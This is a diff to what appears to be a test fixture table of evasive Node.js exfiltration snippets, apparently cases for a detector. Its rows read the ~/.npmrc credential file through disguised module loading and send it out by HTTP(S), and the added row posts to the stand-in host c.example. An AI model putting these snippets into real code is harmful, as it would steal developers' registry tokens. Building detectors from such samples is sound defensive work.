@@ -20,6 +20,10 @@ const CHANNELS: readonly Row[] = [
     "const load=(n)=>require(n);const h=load('https');h.request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
   [
+    'one of two modules, by what is asked',
+    "const c=require(process.env.PLAIN?'http':'https');const r=c.request({host:'c.example',method:'POST'});READ;r.end(k)",
+  ],
+  [
     'a function that loads by the loader behind',
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
